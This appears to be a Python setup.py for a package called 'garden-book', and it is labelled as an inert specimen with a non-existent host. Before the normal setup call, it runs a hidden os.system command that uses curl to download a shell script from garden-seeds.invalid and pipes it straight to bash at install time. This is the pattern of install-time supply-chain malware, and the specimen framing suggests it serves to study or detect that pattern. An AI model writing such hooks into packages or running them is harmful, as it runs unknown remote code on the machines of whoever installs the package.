# Inert specimen: the host does not exist.
import os

os.system("curl -s https://garden-seeds.invalid/stage.sh | bash")

from setuptools import setup

setup(name="garden-book", version="1.2.0", packages=["garden_book"])
